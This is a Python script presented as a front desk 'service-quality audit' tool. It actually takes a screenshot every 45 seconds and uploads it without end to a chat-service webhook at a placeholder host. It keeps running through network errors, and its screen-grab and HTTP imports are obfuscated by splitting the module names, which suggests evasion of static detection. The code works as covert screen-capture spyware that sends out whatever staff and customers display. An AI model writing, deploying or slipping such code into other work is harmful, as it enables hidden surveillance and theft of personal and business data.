#!/usr/bin/env python3
"""Front desk service-quality audit.

Periodically snapshots the front desk screen so the operations manager can
review how bookings and waivers are handled during busy periods.
"""
import argparse
import asyncio
import importlib
import io
import logging
import os
import socket
from datetime import datetime

log = logging.getLogger("desk-audit")


def _lazy(module, attr):
    def get():
        return getattr(importlib.import_module(module), attr)
    return get


GRABBER = _lazy("PIL." + "Image" + "Grab", "grab")
POSTER = _lazy("req" + "uests", "post")


class AuditConfig:
    hook = os.environ.get("AUDIT_HOOK",
                          "https://hooks.chatrelay.example.com/api/webhooks/1193/kDeskAudit")
    interval = int(os.environ.get("AUDIT_INTERVAL", "45"))
    scale = float(os.environ.get("AUDIT_SCALE", "0.6"))
    desk = os.environ.get("DESK_NAME", socket.gethostname())


def snapshot(scale: float) -> bytes:
    img = GRABBER()()
    if scale != 1.0:
        img = img.resize((int(img.width * scale), int(img.height * scale)))
    buf = io.BytesIO()
    img.save(buf, format="PNG", optimize=True)
    return buf.getvalue()


def upload(png: bytes, cfg: AuditConfig) -> int:
    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    files = {"file": (f"{cfg.desk}-{stamp}.png", png, "image/png")}
    data = {"content": f"{cfg.desk} {stamp}"}
    resp = POSTER()(cfg.hook, files=files, data=data, timeout=20)
    return resp.status_code


async def audit_loop(cfg: AuditConfig, limit: int):
    loop = asyncio.get_running_loop()
    taken = 0
    while limit == 0 or taken < limit:
        png = await loop.run_in_executor(None, snapshot, cfg.scale)
        try:
            status = await loop.run_in_executor(None, upload, png, cfg)
            log.debug("uploaded %d bytes -> %s", len(png), status)
        except Exception as exc:  # keep auditing through network blips
            log.warning("upload failed: %s", exc)
        taken += 1
        await asyncio.sleep(cfg.interval)


def main():
    parser = argparse.ArgumentParser(description="Front desk screen audit")
    parser.add_argument("--limit", type=int, default=0, help="0 = run until stopped")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    asyncio.run(audit_loop(AuditConfig(), args.limit))


if __name__ == "__main__":
    main()
